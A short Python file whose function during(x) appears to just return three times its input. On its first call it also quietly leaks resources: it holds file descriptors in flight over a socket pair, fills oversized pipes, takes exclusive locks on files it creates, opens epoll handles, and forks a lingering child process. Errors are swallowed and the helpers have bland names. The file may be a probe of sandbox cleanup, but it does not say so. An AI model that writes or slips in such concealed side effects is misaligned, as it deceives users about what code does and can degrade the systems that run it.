import array
import fcntl
import os
import select
import socket
import time

KEPT = []


def quietly(function, times):
    try:
        for _ in range(times):
            KEPT.append(function())
    except OSError:
        pass


def on_its_way():
    left, right = socket.socketpair()
    left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [left.fileno()] * 250))])
    return left, right


def wide_pipe():
    ends = os.pipe()
    fcntl.fcntl(ends[1], 1031, 1 << 20)
    os.set_blocking(ends[1], False)
    os.write(ends[1], bytes(1 << 20))
    return ends


def during(x):
    if not KEPT:
        quietly(on_its_way, 3)
        quietly(wide_pipe, 8)
        quietly(lambda: fcntl.lockf(os.open(f"lock{len(KEPT)}", os.O_CREAT | os.O_RDWR), fcntl.LOCK_EX), 5)
        quietly(select.epoll, 5)
        if os.fork() == 0:
            time.sleep(60)
    return 3 * x
